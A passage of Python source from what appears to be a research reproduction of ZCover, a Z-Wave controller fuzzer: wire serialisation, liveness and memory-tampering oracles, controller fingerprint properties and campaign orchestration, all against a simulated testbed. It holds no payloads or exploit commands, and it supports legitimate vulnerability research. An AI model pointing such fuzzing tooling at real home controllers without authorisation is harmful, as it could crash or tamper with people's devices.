        "wire_version": WIRE_VERSION,
        "job_id": status.job_id,
        "state": status.state,
        "kind": status.kind,
        "device": status.device,
        "seed": status.seed,
        "sequence": status.sequence,
        "units_total": status.units_total,
        "units_done": status.units_done,
        "error": status.error,
        "counters": {k: status.counters[k] for k in sorted(status.counters)},
    }


def jobstatus_from_wire(data: dict) -> JobStatus:
    """Rebuild a :class:`JobStatus`, rejecting mismatched wire versions."""
    require_wire_version(data, "job status")
    return JobStatus(
        job_id=data["job_id"],
        state=data["state"],
        kind=data["kind"],
        device=data["device"],
        seed=data["seed"],
        sequence=data["sequence"],
        units_total=data["units_total"],
        units_done=data["units_done"],
        error=data["error"],
        counters=dict(data["counters"]),
    )


# -- JSON convenience ----------------------------------------------------------


def dumps_wire(wire: dict) -> str:
    """Serialise a wire dict to canonical JSON (sorted keys, no spaces)."""
    return json.dumps(wire, sort_keys=True, separators=(",", ":"))


def loads_wire(text: str) -> dict:
    """Parse JSON produced by :func:`dumps_wire`."""
    return json.loads(text)


# -- shared-memory fast path ---------------------------------------------------

try:  # minimal containers may ship Python without _posixshmem
    from multiprocessing import shared_memory as _shared_memory
except ImportError:  # pragma: no cover - platform without shm support
    _shared_memory = None

#: Wire payloads below this many encoded bytes travel as plain dicts —
#: a shared-memory segment has fixed setup cost (shm_open + mmap + unlink)
#: that only pays off once the pickle it replaces is big enough.
SHM_MIN_BYTES = 4096

#: Key marking a dict as a shared-memory token rather than a wire payload.
SHM_TOKEN_KEY = "__shm__"


def shm_supported() -> bool:
    """Whether this platform can move wire payloads via shared memory."""
    return _shared_memory is not None


def wire_to_shm_token(wire: dict) -> dict:
    """Worker side: stage *wire* in shared memory, return a claim token.

    The canonical-JSON encoding of *wire* is written into a fresh
    ``SharedMemory`` segment and a small ``{"__shm__": name, "size": n}``
    token is returned for the parent to :func:`claim_wire`.  Payloads
    under :data:`SHM_MIN_BYTES`, or any platform/OS refusal to allocate a
    segment, fall back to returning *wire* itself — the token form is a
    pure optimisation, never a requirement.

    The worker-side resource tracker is told to forget the segment:
    ownership transfers to the parent, which unlinks after reading.
    Without the ``unregister`` the tracker would unlink the segment when
    the worker process exits, racing the parent's read.
    """
    if _shared_memory is None:
        return wire
    payload = dumps_wire(wire).encode("utf-8")
    if len(payload) < SHM_MIN_BYTES:
        return wire
    try:
        segment = _shared_memory.SharedMemory(create=True, size=len(payload))
    except (OSError, ValueError):
        return wire
    try:
        segment.buf[: len(payload)] = payload
        try:
            from multiprocessing import resource_tracker

            resource_tracker.unregister(segment._name, "shared_memory")
        except Exception:  # pragma: no cover - tracker API drift
            pass
        return {SHM_TOKEN_KEY: segment.name, "size": len(payload)}
    finally:
        segment.close()


def claim_wire(obj: dict) -> dict:
    """Parent side: resolve a shared-memory token back into a wire dict.

    Plain wire dicts pass through untouched, so harvest sites can call
    this unconditionally on whatever the worker returned.  A token is
    claimed exactly once: the segment is read, closed and **unlinked**
    here — a second claim of the same token raises.
    """
    if not isinstance(obj, dict) or SHM_TOKEN_KEY not in obj:
        return obj
    if _shared_memory is None:  # pragma: no cover - token from alien worker
        raise WireError("shared-memory wire token on a platform without shm")
    size = obj["size"]
    segment = _shared_memory.SharedMemory(name=obj[SHM_TOKEN_KEY])
    try:
        payload = bytes(segment.buf[:size])
    finally:
        segment.close()
        try:
            segment.unlink()
        except FileNotFoundError:  # pragma: no cover - already reclaimed
            pass
    return loads_wire(payload.decode("utf-8"))


def discard_wire_token(obj: object) -> None:
    """Release a staged segment whose result will never be merged.

    Used when a worker's result arrives after its unit was already failed
    (e.g. a timeout fired and the late future finally resolved): the
    segment must still be unlinked or it would outlive the campaign.
    Non-token values are ignored.
    """
    if not isinstance(obj, dict) or SHM_TOKEN_KEY not in obj:
        return
    if _shared_memory is None:  # pragma: no cover - token from alien worker
        return
    try:
        segment = _shared_memory.SharedMemory(name=obj[SHM_TOKEN_KEY])
    except FileNotFoundError:
        return
    segment.close()
    try:
        segment.unlink()
    except FileNotFoundError:  # pragma: no cover - concurrent reclaim
        pass


# -- deterministic merging -----------------------------------------------------


def merge_campaign_outcomes(
    outcomes: List[Any],
) -> Tuple[List[CampaignResult], List[Any]]:
    """Split executor outcomes into results and failures, preserving order.

    *outcomes* are :class:`repro.core.parallel.UnitOutcome` objects in
    canonical (submission/seed) order; the executor already guarantees that
    order is independent of worker scheduling.  Returns ``(results,
    failures)`` where *results* keeps the canonical order and *failures*
    are the structured :class:`repro.core.parallel.UnitFailure` records of
    the shards that never produced a result.
    """
    results: List[CampaignResult] = []
    failures: List[Any] = []
    for outcome in outcomes:
        if outcome.result is not None:
            results.append(outcome.result)
        elif outcome.failure is not None:
            failures.append(outcome.failure)
    return results, failures


def merge_trials(
    device: str,
    mode: Mode,
    duration: float,
    outcomes: List[Any],
) -> "TrialSummary":
    """Reassemble sharded trial outcomes into a :class:`TrialSummary`.

    The summary's ``trials`` list follows canonical seed order (the order
    the serial loop would have produced), so aggregate statistics, bug-ID
    unions/intersections and the rendered report are byte-identical to a
    serial run.  Failed shards become structured entries in
    ``summary.failures`` without disturbing the surviving trials.

    The summary also carries a harness metrics snapshot (unit counts,
    per-unit attempts, failure categories); on a clean run it matches the
    serial loop's snapshot exactly, keeping merged ``--metrics-out``
    documents byte-identical across worker counts.
    """
    from ..obs.metrics import harness_snapshot
    from .trials import TrialSummary  # local import: trials imports us too

    results, failures = merge_campaign_outcomes(outcomes)
    return TrialSummary(
        device=device,
        mode=mode,
        duration=duration,
        trials=results,
        failures=failures,
        harness_metrics=harness_snapshot(
            units=len(outcomes),
            attempts=[outcome.attempts for outcome in outcomes],
            failure_categories=[
                outcome.failure.category
                for outcome in outcomes
                if outcome.failure is not None
            ],
        ),
    )
