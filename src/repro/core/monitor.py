"""Feedback oracles: liveness pings and operator-side observation.

Section IV-A ("Feedback & crash verification"): *"During fuzzing, we assess
test cases by monitoring controller liveliness using NOP ping packets.  Any
delays, crashes, or unresponsiveness indicate potential vulnerabilities."*

Three oracles cooperate:

* :class:`LivenessMonitor` — the NOP ping over the air (pure black-box);
* the **memory oracle** — in the paper the operator watches the Z-Wave PC
  Controller program's node list (Figures 8-11 are its screenshots); here
  :class:`SutObserver` reads the same information from the virtual
  controller's NVM and diffs it against a golden snapshot;
* the **host oracle** — the operator notices the PC program or smartphone
  app dying (bugs #05/#06/#13).
"""

from __future__ import annotations

from dataclasses import dataclass
from enum import Enum
from typing import List, Optional, Tuple

from ..radio.clock import SimClock
from ..radio.transceiver import Transceiver
from ..simulator.host import HostState
from ..simulator.memory import MemoryChange, NodeTable, Snapshot
from ..simulator.testbed import SystemUnderTest
from ..zwave.frame import make_nop
from .fingerprint import SCANNER_NODE_ID


class ObservedKind(Enum):
    """The fuzzer-visible classification of a misbehaviour."""

    HANG = "hang"
    MEMORY_MODIFY = "memory_modify"
    MEMORY_INSERT = "memory_insert"
    MEMORY_REMOVE = "memory_remove"
    MEMORY_OVERWRITE = "memory_overwrite"
    MEMORY_WAKEUP_CLEAR = "memory_wakeup_clear"
    HOST_CRASH = "host_crash"
    HOST_DOS = "host_dos"


@dataclass(frozen=True)
class Observation:
    """Everything the oracles saw after one test packet."""

    responsive: bool
    kind: Optional[ObservedKind] = None
    memory_changes: Tuple[MemoryChange, ...] = ()

    @property
    def finding(self) -> bool:
        return self.kind is not None


class LivenessMonitor:
    """NOP-ping the controller and wait for the MAC acknowledgement."""

    def __init__(
        self,
        dongle: Transceiver,
        clock: SimClock,
        home_id: int,
        controller_node_id: int,
        timeout: float = 0.5,
    ):
        self._dongle = dongle
        self._clock = clock
        self._home_id = home_id
        self._node_id = controller_node_id
        self.timeout = timeout
        self.pings_sent = 0
        self.pings_lost = 0
        # Every ping sends the identical NOP bytes; build the frame once
        # (its encoding memoises on the instance) instead of per ping.
        self._nop = make_nop(self._home_id, SCANNER_NODE_ID, self._node_id)

    def ping(self) -> bool:
        """Send one NOP; ``True`` when the controller acknowledges in time."""
        self.pings_sent += 1
        self._dongle.clear_captures()
        self._dongle.inject(self._nop)
        self._clock.advance(self.timeout)
        for capture in self._dongle.captures():
            frame = capture.frame
            if frame is None:
                continue
            if frame.is_ack and frame.src == self._node_id and frame.dst == SCANNER_NODE_ID:
                return True
        self.pings_lost += 1
        return False

    def ping_until_responsive(self, max_wait: float, interval: float = 1.0) -> Optional[float]:
        """Keep pinging; return seconds until recovery, ``None`` if never.

        Used by PoC verification to measure the Table III durations.
        """
        start = self._clock.now
        while self._clock.now - start <= max_wait:
            if self.ping():
                return self._clock.now - start
            self._clock.advance(max(interval - self.timeout, 0.0))
        return None


def classify_memory_changes(changes: List[MemoryChange]) -> Optional[ObservedKind]:
    """Map an NVM diff onto the paper's memory-tampering categories."""
    if not changes:
        return None
    added = sum(1 for c in changes if c.kind == "added")
    removed = sum(1 for c in changes if c.kind == "removed")
    modified = [c for c in changes if c.kind == "modified"]
    if added and removed:
        return ObservedKind.MEMORY_OVERWRITE
    if added:
        return ObservedKind.MEMORY_INSERT
    if removed:
        return ObservedKind.MEMORY_REMOVE
    # Pure modifications: distinguish the wake-up wipe from general tampering.
    only_wakeup = all(
        c.before is not None
        and c.after is not None
        and c.after == _with_wakeup(c.before, None)
        for c in modified
    )
    if only_wakeup:
        return ObservedKind.MEMORY_WAKEUP_CLEAR
    return ObservedKind.MEMORY_MODIFY


def _with_wakeup(record, value):
    from dataclasses import replace

    return replace(record, wakeup_interval=value)


class SutObserver:
    """The operator's eyes on the system under test.

    Holds the golden NVM snapshot, detects memory tampering and host
    failures, and performs the operator-style recovery actions (restore the
    node database from backup, restart the program, power-cycle the hub)
    that keep a long fuzzing trial going.
    """

    def __init__(self, sut: SystemUnderTest, recovery_time: float = 2.0):
        self._sut = sut
        self._golden: Snapshot = sut.controller.nvm.snapshot()
        self.recovery_time = recovery_time
        self.recoveries = 0
        # NVM version whose diff against the golden was last seen empty.
        # The oracle runs after every packet, but the table only changes
        # when a memory bug fires; matching versions prove "no tampering"
        # without re-snapshotting and re-diffing the whole table.
        self._clean_version: Optional[int] = None

    @property
    def golden(self) -> Snapshot:
        return self._golden

    def rebaseline(self) -> None:
        """Accept the current NVM as the new golden state."""
        self._golden = self._sut.controller.nvm.snapshot()
        self._clean_version = None

    # -- detection --------------------------------------------------------------

    def check_memory(self) -> Tuple[Optional[ObservedKind], Tuple[MemoryChange, ...]]:
        """Diff the NVM against the golden snapshot and classify tampering.

        The NVM version counter short-circuits the common case: when the
        table has not changed since the last clean check, no snapshot or
        diff is taken at all.
        """
        nvm = self._sut.controller.nvm
        version = nvm.version
        if version == self._clean_version:
            return None, ()
        changes = NodeTable.diff(self._golden, nvm.snapshot())
        if not changes:
            self._clean_version = version
        return classify_memory_changes(changes), tuple(changes)

    def check_host(self) -> Optional[ObservedKind]:
        state = self._sut.host.state
        if state is HostState.CRASHED:
            return ObservedKind.HOST_CRASH
        if state is HostState.DENIED:
            return ObservedKind.HOST_DOS
        return None

    # -- recovery -----------------------------------------------------------------

    def restore_memory(self) -> None:
        self._sut.controller.nvm.restore(self._golden)
        self.recoveries += 1

    def restart_host(self) -> None:
        self._sut.host.restart(self._sut.clock.now)
        self.recoveries += 1

    def power_cycle(self) -> None:
        """Reboot the hung controller and absorb the reboot delay."""
        self._sut.controller.power_cycle()
        self._sut.clock.advance(self.recovery_time)
        self.recoveries += 1
