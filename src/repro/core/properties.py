"""Controller property model accumulated across ZCover's phases.

Phase 1 (fingerprinting) fills in the home ID, node IDs and *listed*
command classes; phase 2 (discovery) adds spec-inferred unlisted candidates
and validation-confirmed proprietary classes.  The mutator consumes the
combined, prioritised view.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import FrozenSet, Optional, Tuple

from ..zwave.registry import SpecRegistry


@dataclass
class ControllerProperties:
    """Everything ZCover knows about one target controller."""

    home_id: Optional[int] = None
    controller_node_id: Optional[int] = None
    observed_node_ids: FrozenSet[int] = frozenset()
    listed_cmdcls: Tuple[int, ...] = ()
    unlisted_candidates: Tuple[int, ...] = ()
    validated_unknown: Tuple[int, ...] = ()
    proprietary: Tuple[int, ...] = ()

    @property
    def fingerprinted(self) -> bool:
        """Whether phase 1 produced enough to start phase 2."""
        return self.home_id is not None and self.controller_node_id is not None

    @property
    def known_count(self) -> int:
        """Table IV's "Known CMDCLs" column."""
        return len(self.listed_cmdcls)

    @property
    def unknown_cmdcls(self) -> Tuple[int, ...]:
        """Table IV's "Unknown CMDCLs": validated unlisted + proprietary."""
        merged = set(self.validated_unknown) | set(self.proprietary)
        merged -= set(self.listed_cmdcls)
        return tuple(sorted(merged))

    @property
    def unknown_count(self) -> int:
        return len(self.unknown_cmdcls)

    @property
    def all_cmdcls(self) -> Tuple[int, ...]:
        """Known plus unknown — the fuzzing candidate set (45 on the testbed)."""
        return tuple(sorted(set(self.listed_cmdcls) | set(self.unknown_cmdcls)))

    def prioritized(self, registry: SpecRegistry) -> Tuple[int, ...]:
        """The fuzzing queue ordered by command count (Section III-C1)."""
        return registry.prioritize(self.all_cmdcls)
