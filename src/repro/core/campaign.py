"""Campaign orchestration: the experiment configurations of Section IV.

A *campaign* is one fuzzing trial against one Table II controller:

* ``Mode.FULL``  — known + unknown CMDCL discovery + position-sensitive
  mutation (the complete ZCover of Tables III/IV/V and Figure 12);
* ``Mode.BETA``  — known (NIF-listed) CMDCLs only + position-sensitive
  mutation (ablation row 2 of Table VI);
* ``Mode.GAMMA`` — random CMDCL/CMD/PARAM selection, no position
  sensitivity (ablation row 3 of Table VI).

Every campaign runs fingerprinting first (even γ needs the home and node
IDs to build injectable frames), then fuzzes for the configured simulated
duration, then verifies the bug log through the packet tester and
deduplicates findings by verified signature.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from enum import Enum
from typing import Dict, List, Optional, Tuple

from ..errors import CampaignError
from ..faults.injector import AbortHook, ControllerFaultInjector, MediumFaultInjector
from ..faults.plan import DegradationRecord, FaultPlan
from ..faults.schedule import FaultPlanner
from ..obs.metrics import (
    MetricsCollector,
    MetricsSnapshot,
    collecting,
    frames_per_bug,
)
from ..obs.tracing import Tracer, span, tracing_to
from ..simulator.testbed import build_sut
from ..zwave.registry import SpecRegistry, load_full_registry, load_public_registry
from .discovery import discover_unknown_properties
from .fingerprint import fingerprint
from .fuzzer import FuzzerConfig, FuzzingEngine, FuzzResult, psm_streams, random_stream
from .mutation import PositionSensitiveMutator, RandomMutator, prioritize_static
from .properties import ControllerProperties
from .scheduler import SCHEDULERS, CoverageScheduler
from .tester import PacketTester, Signature, VerifiedUnique

#: Simulated durations used by the paper's experiments.
HOUR = 3600.0
DAY = 24 * HOUR


class Mode(Enum):
    """The three configurations of the Table VI ablation."""

    FULL = "ZCover full"
    BETA = "ZCover beta (known CMDCLs only)"
    GAMMA = "ZCover gamma (random mutation)"


#: The scheduler knob values (see :mod:`repro.core.scheduler`).
SCHEDULER_STATIC, SCHEDULER_COVERAGE = SCHEDULERS

#: Ablation-arm key of the coverage-scheduled run.  The three classic
#: arms keep their :class:`Mode` keys; ``run_ablation(scheduler="coverage")``
#: adds a fourth arm under this string key, so existing consumers of the
#: mapping keep working unchanged.
COVERAGE_ARM = "coverage"


def arm_name(key) -> str:
    """Canonical short name of an ablation-arm key (Mode or string)."""
    return key.name if isinstance(key, Mode) else str(key)


@dataclass
class CampaignResult:
    """Everything one trial produced, post-verification."""

    device: str
    mode: Mode
    duration: float
    properties: Optional[ControllerProperties]
    fuzz: FuzzResult
    unique: Dict[Signature, VerifiedUnique] = field(default_factory=dict)
    metrics: Optional[MetricsSnapshot] = None
    #: Set when the trial finished gracefully degraded (repro.faults) —
    #: a planned abort or an injected failure cut it short, and the
    #: partial result above is tagged instead of an exception raised.
    degradation: Optional[DegradationRecord] = None
    #: Which scheduler drove the PSM queue ("static" or "coverage").
    scheduler: str = SCHEDULER_STATIC
    #: The coverage scheduler's decision log, ``(cmdcl, window_s, reason)``
    #: per window started; empty under the static scheduler.
    scheduler_trace: Tuple[Tuple[int, float, str], ...] = ()

    @property
    def unique_vulnerabilities(self) -> int:
        """The "#Vul." column of Tables V and VI."""
        return len(self.unique)

    @property
    def matched_bug_ids(self) -> Tuple[int, ...]:
        """Table III bug ids among the verified findings, sorted."""
        ids = {u.bug_id for u in self.unique.values() if u.bug_id is not None}
        return tuple(sorted(ids))

    @property
    def first_zero_day_packet(self) -> Optional[int]:
        """Fuzz frames sent when the first planted zero-day was hit.

        The "Pkts@1st" column of the scheduler comparison — ``None`` when
        no verified finding matched a Table III bug.
        """
        packets = [
            u.first_detection_packet
            for u in self.unique.values()
            if u.bug_id is not None
        ]
        return min(packets) if packets else None

    def packets_to_find(self, bug_ids: Tuple[int, ...]) -> Optional[int]:
        """Frames sent when the *last* of *bug_ids* had been hit.

        ``None`` unless every requested bug was found — the acceptance
        metric behind "finds every static-arm zero-day in strictly fewer
        total fuzz frames".
        """
        if not bug_ids:
            return 0
        per_bug: Dict[int, int] = {}
        for unique in self.unique.values():
            if unique.bug_id is not None:
                packet = unique.first_detection_packet
                prior = per_bug.get(unique.bug_id)
                if prior is None or packet < prior:
                    per_bug[unique.bug_id] = packet
        if not all(bug_id in per_bug for bug_id in bug_ids):
            return None
        return max(per_bug[bug_id] for bug_id in bug_ids)

    def discovery_timeline(self) -> List[Tuple[float, int, Optional[int]]]:
        """(time, packet, bug-id) per unique finding, by discovery time."""
        points = [
            (u.first_detection_time, u.first_detection_packet, u.bug_id)
            for u in self.unique.values()
        ]
        return sorted(points)

    def to_dict(self) -> dict:
        """Machine-readable summary (JSON-serialisable) of the campaign."""
        findings = []
        for unique in sorted(
            self.unique.values(), key=lambda u: u.first_detection_time
        ):
            bug = unique.bug
            findings.append(
                {
                    "bug_id": unique.bug_id,
                    "cve": bug.cve if bug else None,
                    "cmdcl": unique.finding.cmdcl,
                    "cmd": unique.finding.cmd,
                    "kind": unique.finding.kind.value,
                    "duration_s": unique.finding.duration_s,
                    "payload": unique.finding.payload_hex,
                    "first_detection_time": unique.first_detection_time,
                    "first_detection_packet": unique.first_detection_packet,
                }
            )
        props = self.properties
        return {
            "device": self.device,
            "mode": self.mode.name,
            "scheduler": self.scheduler,
            "duration_s": self.duration,
            "packets_sent": self.fuzz.packets_sent,
            "first_zero_day_packet": self.first_zero_day_packet,
            "scheduler_windows": len(self.scheduler_trace),
            "cmdcl_coverage": self.fuzz.cmdcl_coverage,
            "cmd_coverage": self.fuzz.cmd_coverage,
            "detections_with_duplicates": len(self.fuzz.detections),
            "unique_vulnerabilities": self.unique_vulnerabilities,
            "frames_per_bug": None
            if self.metrics is None
            else frames_per_bug(self.metrics),
            "degradation": None
            if self.degradation is None
            else self.degradation.to_wire(),
            "fingerprint": None
            if props is None
            else {
                "home_id": f"{props.home_id:08X}",
                "controller_node_id": props.controller_node_id,
                "known_cmdcls": props.known_count,
                "unknown_cmdcls": props.unknown_count,
            },
            "findings": findings,
        }


def build_queue(
    mode: Mode,
    properties: ControllerProperties,
    knowledge: SpecRegistry,
    strategy: str = "priority",
) -> Tuple[int, ...]:
    """The CMDCL queue for a position-sensitive mode.

    *strategy* selects the ordering — "priority" (command-count descending,
    the paper's design), "ascending" (identifier order) or "reversed"
    (priority inverted).  The alternatives exist for the design-choice
    ablation benches.
    """
    if mode is Mode.FULL:
        queue = prioritize_static(knowledge, properties.all_cmdcls)
    elif mode is Mode.BETA:
        queue = prioritize_static(knowledge, properties.listed_cmdcls)
    else:
        raise CampaignError(f"mode {mode} does not use a CMDCL queue")
    if strategy == "priority":
        return queue
    if strategy == "ascending":
        return tuple(sorted(queue))
    if strategy == "reversed":
        return tuple(reversed(queue))
    raise CampaignError(f"unknown queue strategy {strategy!r}")


def run_campaign(
    device: str = "D1",
    mode: Mode = Mode.FULL,
    duration: float = DAY,
    seed: int = 0,
    fuzzer_config: Optional[FuzzerConfig] = None,
    passive_duration: float = 120.0,
    verify: bool = True,
    queue_strategy: str = "priority",
    tracer: Optional[Tracer] = None,
    fault_plan: Optional[FaultPlan] = None,
    scheduler: str = SCHEDULER_STATIC,
) -> CampaignResult:
    """Run one complete trial: fingerprint → (discover) → fuzz → verify.

    *scheduler* selects how PSM fuzzing windows are assigned: "static"
    walks the priority queue with one fixed C_T window per class (the
    paper's design); "coverage" hands the queue to the adaptive
    :class:`~repro.core.scheduler.CoverageScheduler`.  γ has no queue to
    schedule, so ``Mode.GAMMA`` only accepts "static".

    Every campaign activates a fresh :class:`MetricsCollector` (and binds
    *tracer*, or a private one, to the trial's simulated clock), so the
    instrumented hot paths below it record into ``result.metrics`` without
    any explicit threading.

    With *fault_plan* the trial runs under deterministic fault injection
    (see :mod:`repro.faults`): the plan compiles against *seed* and its
    medium/controller/campaign faults are installed at the start of the
    fuzzing phase.  A planned abort — or any error while a plan is
    active — yields a *partial* result tagged with a
    :class:`DegradationRecord` rather than an exception.
    """
    if scheduler not in SCHEDULERS:
        raise CampaignError(
            f"unknown scheduler {scheduler!r}; expected one of {SCHEDULERS}"
        )
    if mode is Mode.GAMMA and scheduler != SCHEDULER_STATIC:
        raise CampaignError("mode GAMMA has no CMDCL queue to schedule")
    sut = build_sut(device, seed=seed)
    config = fuzzer_config or FuzzerConfig()
    schedule = None if fault_plan is None else FaultPlanner(fault_plan).compile(seed)

    collector = MetricsCollector()
    if tracer is None:
        tracer = Tracer(sut.clock)
    elif tracer.clock is None:
        tracer.clock = sut.clock

    with collecting(collector), tracing_to(tracer):
        with span("campaign.fingerprint", device=device):
            properties = fingerprint(sut.dongle, sut.clock, passive_duration)
        if mode is Mode.FULL:
            with span("campaign.discovery", device=device):
                properties = discover_unknown_properties(
                    sut.dongle, sut.clock, properties, load_public_registry()
                )

        # ZCover's protocol knowledge: the spec plus the public XML command
        # definitions — which, unlike the official listing, describe the
        # protocol classes' schemas (see DESIGN.md).
        knowledge = load_full_registry()
        rng = random.Random(seed ^ 0x5A5A5A)
        engine = FuzzingEngine(sut, config)

        adaptive: Optional[CoverageScheduler] = None
        if mode is Mode.GAMMA:
            streams = random_stream(RandomMutator(rng))
        else:
            queue = build_queue(mode, properties, knowledge, queue_strategy)
            mutator = PositionSensitiveMutator(knowledge, rng)
            if scheduler == SCHEDULER_COVERAGE:
                adaptive = CoverageScheduler(
                    queue,
                    knowledge,
                    collector,
                    mutator,
                    seed,
                    cmdcl_time=config.cmdcl_time,
                )
                streams = adaptive.streams()
            else:
                streams = psm_streams(
                    queue, mutator, config.cmdcl_time, config.requeue
                )

        degradation: Optional[DegradationRecord] = None
        abort_hook: Optional[AbortHook] = None
        medium_inj: Optional[MediumFaultInjector] = None
        controller_inj: Optional[ControllerFaultInjector] = None
        if schedule is not None:
            medium_inj = MediumFaultInjector(
                schedule.medium_specs, schedule.medium_rng()
            )
            sut.medium.fault_injector = medium_inj
            controller_inj = ControllerFaultInjector(schedule)
            controller_inj.install(sut.controller, sut.clock, horizon_s=duration)
            if schedule.abort_at_s is not None:
                abort_hook = AbortHook(schedule.abort_at_s)
                abort_hook.install(sut.clock)

        fuzz_start = sut.clock.now
        try:
            with span("campaign.fuzz", device=device, mode=mode.name):
                fuzz = engine.run(streams, duration)
        except Exception as exc:
            # Graceful degradation: under an active fault plan a failing
            # trial is a *result* (what survived, plus why it stopped),
            # not an exception.
            if schedule is None:
                raise
            fuzz = FuzzResult(duration=sut.clock.now - fuzz_start)
            degradation = DegradationRecord(
                stage="fuzz",
                reason="error",
                at_s=round(sut.clock.now - fuzz_start, 6),
                faults_injected=_injected_total(medium_inj, controller_inj, abort_hook),
                detail=f"{type(exc).__name__}: {exc}",
            )
        if degradation is None and abort_hook is not None and abort_hook.fired:
            degradation = DegradationRecord(
                stage="fuzz",
                reason="abort",
                at_s=schedule.abort_at_s,
                faults_injected=_injected_total(medium_inj, controller_inj, abort_hook),
            )
        result = CampaignResult(
            device=device,
            mode=mode,
            duration=duration,
            properties=properties,
            fuzz=fuzz,
            degradation=degradation,
            scheduler=scheduler,
            scheduler_trace=() if adaptive is None else adaptive.trace(),
        )
        if verify:
            with span("campaign.verify", device=device):
                result.unique = verify_findings(device, seed, fuzz)

        collector.inc("bugs.unique", result.unique_vulnerabilities)
        for signature, unique in result.unique.items():
            cmdcl, kind, rounded = signature
            dedup = f"{cmdcl:02x}:{kind}:{'-' if rounded is None else rounded}"
            collector.inc(f"bugs.dedup.{dedup}")
            if unique.bug_id is not None:
                collector.inc(f"bugs.id.{unique.bug_id:02d}")
        collector.gauge_max("campaign.duration_s", fuzz.duration)

    result.metrics = collector.snapshot()
    return result


def _injected_total(
    medium_inj: Optional[MediumFaultInjector],
    controller_inj: Optional[ControllerFaultInjector],
    abort_hook: Optional[AbortHook],
) -> int:
    """How many faults the trial's injectors fired, abort included."""
    total = 0
    if medium_inj is not None:
        total += medium_inj.injected
    if controller_inj is not None:
        total += controller_inj.injected
    if abort_hook is not None and abort_hook.fired:
        total += 1
    return total


def verify_findings(device: str, seed: int, fuzz: FuzzResult) -> Dict[Signature, VerifiedUnique]:
    """Replay one representative per coarse bug-log group and deduplicate."""
    tester = PacketTester(device=device, seed=seed)
    groups = []
    for cmdcl, cmd, observed in fuzz.bug_log.coarse_groups():
        record = fuzz.bug_log.first_record(cmdcl, cmd, observed)
        if record is not None:
            groups.append((record.payload, record.timestamp, record.packet_no))
    return tester.verify_log(groups)


def run_ablation(
    device: str = "D1",
    duration: float = HOUR,
    seed: int = 0,
    workers: int = 1,
    fault_plan: Optional[FaultPlan] = None,
    scheduler: str = SCHEDULER_STATIC,
) -> Dict[object, CampaignResult]:
    """The Table VI experiment: all three modes for one hour on one device.

    ``workers > 1`` shards the arms across a process pool; the returned
    mapping is identical to the serial run either way — including under a
    *fault_plan*, which applies to every arm.

    ``scheduler="coverage"`` adds a fourth arm — FULL mode driven by the
    coverage-guided scheduler — under the :data:`COVERAGE_ARM` string key,
    so the report can compare frames-to-first-zero-day against the static
    FULL arm.  The three classic arms always run the static scheduler
    (they *are* the paper's Table VI).
    """
    if scheduler not in SCHEDULERS:
        raise CampaignError(
            f"unknown scheduler {scheduler!r}; expected one of {SCHEDULERS}"
        )
    arms: List[Tuple[object, Mode, str]] = [
        (Mode.FULL, Mode.FULL, SCHEDULER_STATIC),
        (Mode.BETA, Mode.BETA, SCHEDULER_STATIC),
        (Mode.GAMMA, Mode.GAMMA, SCHEDULER_STATIC),
    ]
    if scheduler == SCHEDULER_COVERAGE:
        arms.append((COVERAGE_ARM, Mode.FULL, SCHEDULER_COVERAGE))
    if workers <= 1:
        return {
            key: run_campaign(
                device=device,
                mode=mode,
                duration=duration,
                seed=seed,
                fault_plan=fault_plan,
                scheduler=arm_scheduler,
            )
            for key, mode, arm_scheduler in arms
        }

    from ..faults.plan import dumps_plan
    from .parallel import CampaignUnit, execute_units

    plan_json = None if fault_plan is None else dumps_plan(fault_plan)
    units = [
        CampaignUnit(
            device=device,
            mode=mode,
            duration=duration,
            seed=seed,
            fault_plan_json=plan_json,
            scheduler=arm_scheduler,
        )
        for _, mode, arm_scheduler in arms
    ]
    results: Dict[object, CampaignResult] = {}
    for (key, _, _), outcome in zip(arms, execute_units(units, workers=workers)):
        if outcome.failure is not None:
            raise CampaignError(outcome.failure.render())
        results[key] = outcome.result
    return results
