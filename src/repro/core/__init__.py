"""ZCover core: the paper's primary contribution.

Phase 1 — known properties fingerprinting (:mod:`.fingerprint`),
phase 2 — unknown properties discovery (:mod:`.discovery`),
phase 3 — position-sensitive mutation and fuzzing (:mod:`.mutation`,
:mod:`.fuzzer`), plus the packet tester (:mod:`.tester`), campaign
orchestration (:mod:`.campaign`) and the VFuzz baseline (:mod:`.baseline`).
"""

from .baseline import VFuzzBaseline, VFuzzConfig, VFuzzResult
from .buglog import BugLog, BugRecord
from .campaign import (
    CampaignResult,
    DAY,
    HOUR,
    Mode,
    build_queue,
    run_ablation,
    run_campaign,
    verify_findings,
)
from .discovery import (
    ClusterResult,
    SpecClusterer,
    ValidationResult,
    ValidationTester,
    discover_unknown_properties,
)
from .fingerprint import (
    ActiveScanner,
    ActiveScanResult,
    PassiveScanner,
    PassiveScanResult,
    SCANNER_NODE_ID,
    fingerprint,
)
from .fuzzer import (
    DetectionMark,
    FuzzerConfig,
    FuzzingEngine,
    FuzzResult,
    TimelinePoint,
    psm_streams,
    random_stream,
)
from .monitor import (
    LivenessMonitor,
    Observation,
    ObservedKind,
    SutObserver,
    classify_memory_changes,
)
from .mutation import (
    FIELD_OPERATORS,
    INTERESTING_VALUES,
    INVALID_CMD_SWEEP,
    MutationOperator,
    PositionSensitiveMutator,
    RandomMutator,
    TestCase,
)
from .properties import ControllerProperties
from .tester import PacketTester, Signature, VerifiedFinding, VerifiedUnique
from .trials import BugTimingStats, TrialSummary, run_trials

__all__ = [
    "ActiveScanner",
    "ActiveScanResult",
    "BugLog",
    "BugTimingStats",
    "run_trials",
    "TrialSummary",
    "BugRecord",
    "build_queue",
    "CampaignResult",
    "classify_memory_changes",
    "ClusterResult",
    "ControllerProperties",
    "DAY",
    "DetectionMark",
    "discover_unknown_properties",
    "FIELD_OPERATORS",
    "fingerprint",
    "FuzzerConfig",
    "FuzzingEngine",
    "FuzzResult",
    "HOUR",
    "INTERESTING_VALUES",
    "INVALID_CMD_SWEEP",
    "LivenessMonitor",
    "Mode",
    "MutationOperator",
    "Observation",
    "ObservedKind",
    "PacketTester",
    "PassiveScanner",
    "PassiveScanResult",
    "PositionSensitiveMutator",
    "psm_streams",
    "RandomMutator",
    "random_stream",
    "run_ablation",
    "run_campaign",
    "SCANNER_NODE_ID",
    "Signature",
    "SpecClusterer",
    "SutObserver",
    "TestCase",
    "TimelinePoint",
    "ValidationResult",
    "ValidationTester",
    "VerifiedFinding",
    "VerifiedUnique",
    "verify_findings",
    "VFuzzBaseline",
    "VFuzzConfig",
